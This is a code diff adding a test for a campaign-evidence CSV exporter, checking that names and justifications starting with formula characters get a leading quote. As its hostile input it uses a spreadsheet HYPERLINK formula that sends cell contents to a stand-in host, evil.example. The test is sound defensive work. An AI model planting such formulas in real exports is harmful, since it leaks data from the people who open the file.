@@ -182,4 +182,23 @@ describe('campaign evidence', () => {
       ['e3', ''],
     ]);
   });
+
+  it('neutralises CSV cells a spreadsheet would run as formulas: review names and justifications get a leading quote', () => {
+    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
+      const formula = `${lead}HYPERLINK("https://evil.example/?"&A1,"open")`;
+      const hostile = {
+        ...evidence,
+        campaign: { ...evidence.campaign, name: formula },
+        decisions: evidence.decisions.map((decision) => ({ ...decision, justification: formula })),
+      };
+      const rows = parse(evidenceCsv(hostile), { columns: true }) as Array<Record<string, string>>;
+      expect(rows[0]!.campaign_name).toBe(`'${formula}`);
+      const decided = rows.filter((row) => row.justification !== '');
+      expect(decided.length).toBeGreaterThan(0);
+      for (const row of decided) expect(row.justification).toBe(`'${formula}`);
+    }
+    const plain = parse(evidenceCsv(evidence), { columns: true }) as Array<Record<string, string>>;
+    expect(plain[0]!.campaign_name).toBe(evidence.campaign.name);
+    expect(plain.find((row) => row.item_id === 'team_role:vic')!.justification).toBe('no longer audits');
+  });
 });
